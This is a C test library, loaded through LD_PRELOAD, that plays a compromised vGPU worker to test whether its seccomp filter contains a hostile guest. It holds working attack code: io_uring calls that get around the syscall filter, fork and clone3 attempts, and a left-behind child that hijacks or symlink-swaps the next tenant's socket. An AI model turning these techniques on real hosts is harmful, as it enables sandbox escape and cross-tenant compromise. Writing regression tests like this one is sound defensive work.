/*
 * A compromised vgpu-worker, for tests/tests/worker_reach.rs. The test compiles it with
 * `cc -shared -fPIC` and puts it in vgpud's environment as LD_PRELOAD; every worker
 * inherits it. In any other program (vgpud, the vmm) it does nothing.
 *
 * Its constructor starts a thread that waits until the worker's seccomp filter is on
 * (/proc/self/status "Seccomp: 2"; the plan `outlive` waits for NoNewPrivs instead, for
 * workers run without a filter) and then does what a guest that took the worker over
 * would do. Which attack each worker makes: STANDIN_PLAN="ID=attack;ID=attack", ID the
 * vGPU the worker serves (its working directory's name, workers/ID). What happened goes
 * to STANDIN_OUT/ID.txt, a line per step, written before the step is tried ("trying X")
 * and after ("X: ALLOWED ..." or "X: refused (errno)"): a worker the filter kills leaves
 * its "trying" line last.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <netinet/in.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#ifndef IORING_OP_BIND
#define IORING_OP_BIND 56
#define IORING_OP_LISTEN 57
#endif

static char out_path[600];
static char out_dir[512];
static char plan[64];

static void say(const char *fmt, ...) {
    char line[700];
    va_list ap;
    va_start(ap, fmt);
    int n = vsnprintf(line, sizeof line - 1, fmt, ap);
    va_end(ap);
    if (n < 0)
        return;
    if (n > (int)sizeof line - 2)
        n = sizeof line - 2;
    line[n++] = '\n';
    int fd = open(out_path, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0666);
    if (fd >= 0) {
        ssize_t w = write(fd, line, n);
        (void)w;
        close(fd);
    }
}

static void outcome(const char *what, long rc) {
    if (rc < 0)
        say("%s: refused (%s)", what, strerror((int)-rc));
    else
        say("%s: ALLOWED (%ld)", what, rc);
}

static long sys(long rc) { return rc < 0 ? -errno : rc; }

static void pause_ms(long ms) {
    struct timespec t = {ms / 1000, (ms % 1000) * 1000000L};
    nanosleep(&t, NULL);
}

/* Whether /proc/self/status has `key` followed by `value`. */
static int status_has(const char *key, const char *value) {
    char buf[4096];
    int fd = open("/proc/self/status", O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return 0;
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n <= 0)
        return 0;
    buf[n] = 0;
    char *p = strstr(buf, key);
    if (!p)
        return 0;
    p += strlen(key);
    while (*p == ' ' || *p == '\t')
        p++;
    return strncmp(p, value, strlen(value)) == 0;
}

/* Whether process `pid` exists (kill(2) is outside every worker filter). */
static int exists(pid_t pid) {
    char path[32];
    struct stat st;
    snprintf(path, sizeof path, "/proc/%d", pid);
    return stat(path, &st) == 0;
}

static double now_s(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

static long read_number(const char *name) {
    char path[600], buf[32] = {0};
    snprintf(path, sizeof path, "%s/%s", out_dir, name);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return -1;
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    return n > 0 ? atol(buf) : -1;
}

/* ---- a one-entry io_uring, what the audit used to do what the filter forbids ---- */

struct ring {
    int fd;
    unsigned *sq_tail, *sq_mask, *sq_array, *cq_head, *cq_tail, *cq_mask;
    struct io_uring_sqe *sqes;
    struct io_uring_cqe *cqes;
};

static long ring_setup(struct ring *r) {
    struct io_uring_params p;
    memset(&p, 0, sizeof p);
    long fd = sys(syscall(__NR_io_uring_setup, 4, &p));
    if (fd < 0)
        return fd;
    size_t sq_len = p.sq_off.array + p.sq_entries * sizeof(unsigned);
    size_t cq_len = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
    if (cq_len > sq_len)
        sq_len = cq_len;
    char *q = mmap(NULL, sq_len, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, (int)fd,
                   IORING_OFF_SQ_RING);
    void *s = mmap(NULL, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE,
                   MAP_SHARED | MAP_POPULATE, (int)fd, IORING_OFF_SQES);
    if (q == MAP_FAILED || s == MAP_FAILED)
        return -ENOMEM;
    r->fd = (int)fd;
    r->sq_tail = (unsigned *)(q + p.sq_off.tail);
    r->sq_mask = (unsigned *)(q + p.sq_off.ring_mask);
    r->sq_array = (unsigned *)(q + p.sq_off.array);
    r->cq_head = (unsigned *)(q + p.cq_off.head);
    r->cq_tail = (unsigned *)(q + p.cq_off.tail);
    r->cq_mask = (unsigned *)(q + p.cq_off.ring_mask);
    r->cqes = (struct io_uring_cqe *)(q + p.cq_off.cqes);
    r->sqes = s;
    return fd;
}

/* Runs one operation on the ring: its result (>= 0) or -errno. */
static long ring_do(struct ring *r, const struct io_uring_sqe *op) {
    unsigned tail = *r->sq_tail, i = tail & *r->sq_mask;
    r->sqes[i] = *op;
    r->sq_array[i] = i;
    __atomic_store_n(r->sq_tail, tail + 1, __ATOMIC_RELEASE);
    unsigned head = __atomic_load_n(r->cq_head, __ATOMIC_ACQUIRE);
    long rc = sys(syscall(__NR_io_uring_enter, r->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0));
    if (rc < 0)
        return rc;
    while (head == __atomic_load_n(r->cq_tail, __ATOMIC_ACQUIRE)) {
        rc = sys(syscall(__NR_io_uring_enter, r->fd, 0, 1, IORING_ENTER_GETEVENTS, NULL, 0));
        if (rc < 0)
            return rc;
    }
    long res = r->cqes[head & *r->cq_mask].res;
    __atomic_store_n(r->cq_head, head + 1, __ATOMIC_RELEASE);
    return res;
}

static struct io_uring_sqe op(int opcode, int fd, const void *addr, unsigned len, uint64_t off) {
    struct io_uring_sqe e;
    memset(&e, 0, sizeof e);
    e.opcode = opcode;
    e.fd = fd;
    e.addr = (uint64_t)(uintptr_t)addr;
    e.len = len;
    e.off = off;
    return e;
}

/* ---- the attacks ---- */

/* io_uring: a TCP connection to the test's listener, a symlink and a directory. */
static void attack_uring(void) {
    struct ring r;
    say("trying io_uring_setup");
    long fd = ring_setup(&r);
    outcome("io_uring_setup", fd);
    if (fd < 0)
        return;
    long port = read_number("port");
    struct io_uring_sqe e = op(IORING_OP_SOCKET, AF_INET, NULL, 0, SOCK_STREAM);
    long s = ring_do(&r, &e);
    outcome("socket(AF_INET) through io_uring", s);
    if (s >= 0 && port > 0) {
        struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
        a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        e = op(IORING_OP_CONNECT, (int)s, &a, 0, sizeof a);
        outcome("connect to 127.0.0.1 through io_uring", ring_do(&r, &e));
    }
    e = op(IORING_OP_SYMLINKAT, AT_FDCWD, "/", 0, (uint64_t)(uintptr_t) "planted-link");
    outcome("symlinkat through io_uring", ring_do(&r, &e));
    e = op(IORING_OP_MKDIRAT, AT_FDCWD, "planted-dir", 0, 0);
    e.len = 0700;
    outcome("mkdirat through io_uring", ring_do(&r, &e));
}

static void attack_fork(void) {
    say("trying fork (clone without CLONE_THREAD)");
    long pid = sys(syscall(SYS_clone, SIGCHLD, 0, 0, 0, 0));
    if (pid == 0)
        syscall(SYS_exit_group, 0);
    outcome("fork", pid);
}

struct clone_args_v0 {
    uint64_t flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls;
};

static void *thread_body(void *arg) {
    *(int *)arg = 1;
    return NULL;
}

/* clone3 (whose flags seccomp cannot see) refused, and threads still start. */
static void attack_clone3(void) {
    say("trying clone3");
    struct clone_args_v0 a;
    memset(&a, 0, sizeof a);
    a.exit_signal = SIGCHLD;
    long pid = sys(syscall(__NR_clone3, &a, sizeof a));
    if (pid == 0)
        syscall(SYS_exit_group, 0);
    outcome("clone3", pid);
    int ran = 0;
    pthread_t t;
    say("trying pthread_create");
    int rc = pthread_create(&t, NULL, thread_body, &ran);
    if (rc == 0)
        pthread_join(t, NULL);
    say("pthread_create after the filter: %s", rc == 0 && ran ? "ran" : strerror(rc));
}

static void attack_tgkill(void) {
    long target = read_number("target");
    say("trying tgkill of process %ld", target);
    outcome("tgkill", sys(syscall(SYS_tgkill, (pid_t)target, (pid_t)target, SIGKILL)));
}

static void attack_prctl(void) {
    say("trying prctl(PR_SET_DUMPABLE, 1)");
    outcome("prctl(PR_SET_DUMPABLE, 1)", sys(prctl(PR_SET_DUMPABLE, 1, 0, 0, 0)));
}

/* A process above pid `from` (pids are handed out in order) whose /proc entry belongs to
 * this uid, which a process of the uid shows while it is dumpable: between its exec and
 * its first prctl. 0 when there is none now. */
static pid_t refused[256];
static int n_refused;

static int was_refused(pid_t p) {
    for (int i = 0; i < n_refused; i++)
        if (refused[i] == p)
            return 1;
    return 0;
}

static pid_t new_of_my_uid(pid_t from) {
    uid_t me = getuid();
    for (pid_t p = from + 1; p < from + 512; p++) {
        if (was_refused(p))
            continue;
        char path[32];
        struct stat st;
        snprintf(path, sizeof path, "/proc/%d", p);
        if (p != getpid() && stat(path, &st) == 0 && st.st_uid == me)
            return p;
    }
    return 0;
}

/* Waits until its parent (the worker) is gone; 0 when it is. */
static int wait_orphaned(pid_t parent, int limit_ms) {
    for (int i = 0; i < limit_ms; i++) {
        if (getppid() != parent)
            return 0;
        pause_ms(1);
    }
    return -1;
}

/* The left-behind child: waits for the next worker of its uid, opens its directory
 * while it is still dumpable, and does `then` there. */
static void left_behind(void (*then)(struct ring *, int, pid_t)) {
    pid_t worker = getpid();
    say("trying fork (a child to outlive the worker)");
    long pid = sys(syscall(SYS_clone, SIGCHLD, 0, 0, 0, 0));
    if (pid != 0) {
        outcome("fork", pid);
        return;
    }
    /* The child. The ring is set up now: the filter it inherited allows io_uring or not. */
    struct ring r;
    long fd = ring_setup(&r);
    say("child %d: io_uring_setup %s", getpid(), fd >= 0 ? "ALLOWED" : "refused");
    if (fd < 0)
        syscall(SYS_exit_group, 0);
    pid_t from = getpid();
    int orphaned = 0;
    for (int round = 0; round < 3; round++) {
        pid_t next = 0;
        char cwd[64];
        int dir = -1;
        for (double end = now_s() + 20; dir < 0 && now_s() < end;) {
            if (!orphaned && getppid() != worker) {
                orphaned = 1;
                say("child %d: REACHED: outlived its worker", getpid());
            }
            next = new_of_my_uid(from);
            if (!next)
                continue;
            snprintf(cwd, sizeof cwd, "/proc/%d/cwd", next);
            dir = open(cwd, O_PATH | O_DIRECTORY | O_CLOEXEC);
            if (dir < 0 && n_refused < 256)
                refused[n_refused++] = next;
        }
        if (dir < 0)
            break;
        say("child %d: REACHED: opened the directory of the next worker %d of its uid", getpid(),
            next);
        then(&r, dir, next);
        close(dir);
        /* The next one, once this one is gone. */
        while (exists(next))
            pause_ms(2);
        from = next;
    }
    syscall(SYS_exit_group, 0);
}

/* Finding 1: a listener of its own in place of the next tenant's vhost-user socket. */
static void replace_socket(struct ring *r, int dir, pid_t next) {
    struct stat st;
    while (fstatat(dir, "vgpu.sock", &st, AT_SYMLINK_NOFOLLOW) != 0 || !S_ISSOCK(st.st_mode)) {
        if (!exists(next))
            return;
        pause_ms(1);
    }
    struct io_uring_sqe e = op(IORING_OP_UNLINKAT, dir, "vgpu.sock", 0, 0);
    long rc = ring_do(r, &e);
    say("child %d: unlink the next tenant's socket: %ld", getpid(), rc);
    e = op(IORING_OP_SOCKET, AF_UNIX, NULL, 0, SOCK_STREAM);
    long s = ring_do(r, &e);
    struct sockaddr_un a = {.sun_family = AF_UNIX};
    snprintf(a.sun_path, sizeof a.sun_path, "/proc/self/fd/%d/vgpu.sock", dir);
    e = op(IORING_OP_BIND, (int)s, &a, 0, sizeof a);
    long b = s >= 0 ? ring_do(r, &e) : s;
    e = op(IORING_OP_LISTEN, (int)s, NULL, 8, 0);
    long l = b >= 0 ? ring_do(r, &e) : b;
    if (l >= 0)
        say("child %d: REACHED: listening at the next tenant's socket", getpid());
    else
        say("child %d: bind %ld listen %ld", getpid(), b, l);
    /* Take what the next tenant's frontend sends. */
    for (;;) {
        int c = accept(s, NULL, NULL);
        if (c < 0)
            break;
        say("child %d: REACHED: the next tenant connected", getpid());
        close(c);
    }
}

/* Finding 2: the next worker's socket swapped for a symlink to a root file just before
 * vgpud hands it over (links it and chowns the link by path). */
static char root_file[640];

static void symlink_socket(struct ring *r, int dir, pid_t next) {
    struct io_uring_sqe e = op(IORING_OP_SYMLINKAT, dir, root_file, 0, (uint64_t)(uintptr_t) "x.lnk");
    long rc = ring_do(r, &e);
    say("child %d: symlink to the root file: %ld", getpid(), rc);
    struct stat st;
    while (fstatat(dir, "vgpu.sock", &st, AT_SYMLINK_NOFOLLOW) != 0 || !S_ISSOCK(st.st_mode)) {
        if (!exists(next))
            return;
    }
    e = op(IORING_OP_RENAMEAT, dir, "x.lnk", (unsigned)dir, (uint64_t)(uintptr_t) "vgpu.sock");
    rc = ring_do(r, &e);
    if (rc >= 0)
        say("child %d: REACHED: the next worker's socket is a symlink to the root file", getpid());
    else
        say("child %d: rename: %ld", getpid(), rc);
}

static void attack_next_tenant(void) { left_behind(replace_socket); }

static void attack_handover(void) {
    snprintf(root_file, sizeof root_file, "%s/root-file", out_dir);
    left_behind(symlink_socket);
}

/* Without a filter: a plain child that reports whether it outlived its worker. */
static void attack_outlive(void) {
    pid_t worker = getpid();
    say("trying fork (a child to outlive the worker)");
    long pid = sys(syscall(SYS_clone, SIGCHLD, 0, 0, 0, 0));
    if (pid != 0) {
        outcome("fork", pid);
        return;
    }
    say("child pid %d", getpid());
    if (wait_orphaned(worker, 20000) == 0)
        say("child %d: REACHED: outlived its worker", getpid());
    pause_ms(20000);
    syscall(SYS_exit_group, 0);
}

static void *run(void *arg) {
    (void)arg;
    int nnp = strcmp(plan, "outlive") == 0;
    for (;;) {
        if (nnp ? status_has("NoNewPrivs:", "1") : status_has("Seccomp:", "2"))
            break;
        pause_ms(2);
    }
    if (nnp)
        pause_ms(100);
    say("acting (pid %d, uid %d)", getpid(), getuid());
    if (!strcmp(plan, "uring"))
        attack_uring();
    else if (!strcmp(plan, "fork"))
        attack_fork();
    else if (!strcmp(plan, "clone3"))
        attack_clone3();
    else if (!strcmp(plan, "tgkill"))
        attack_tgkill();
    else if (!strcmp(plan, "prctl"))
        attack_prctl();
    else if (!strcmp(plan, "next-tenant"))
        attack_next_tenant();
    else if (!strcmp(plan, "handover"))
        attack_handover();
    else if (!strcmp(plan, "outlive"))
        attack_outlive();
    say("done");
    return NULL;
}

/* The vGPU this worker serves: its working directory's name, once it is a number (a
 * pool worker's directory is renamed when it is assigned). */
static long vgpu_id(void) {
    char cwd[512];
    ssize_t n = readlink("/proc/self/cwd", cwd, sizeof cwd - 1);
    if (n <= 0)
        return -1;
    cwd[n] = 0;
    char *base = strrchr(cwd, '/');
    base = base ? base + 1 : cwd;
    char *end;
    long id = strtol(base, &end, 10);
    return *base && !*end ? id : -1;
}

/* Waits for the filter, then for its vGPU id, and finds its part of the plan. */
static void *start(void *arg) {
    (void)arg;
    const char *p = getenv("STANDIN_PLAN");
    long id = -1;
    for (int i = 0; i < 600000 && id < 0; i++) {
        id = vgpu_id();
        if (id < 0)
            pause_ms(2);
    }
    if (id < 0 || !p)
        return NULL;
    char key[32];
    snprintf(key, sizeof key, "%ld=", id);
    for (const char *q = p; (q = strstr(q, key)); q++) {
        if (q != p && q[-1] != ';')
            continue;
        q += strlen(key);
        size_t n = strcspn(q, ";");
        if (n >= sizeof plan)
            return NULL;
        memcpy(plan, q, n);
        plan[n] = 0;
        snprintf(out_path, sizeof out_path, "%s/%ld.txt", out_dir, id);
        return run(NULL);
    }
    return NULL;
}

__attribute__((constructor)) static void init(void) {
    char exe[512];
    ssize_t n = readlink("/proc/self/exe", exe, sizeof exe - 1);
    const char *dir = getenv("STANDIN_OUT");
    if (n <= 0 || !dir || strlen(dir) >= sizeof out_dir)
        return;
    exe[n] = 0;
    const char *base = strrchr(exe, '/');
    if (!base || strcmp(base + 1, "vgpu-worker") != 0)
        return;
    strcpy(out_dir, dir);
    pthread_t t;
    if (pthread_create(&t, NULL, start, NULL) == 0)
        pthread_detach(t);
}
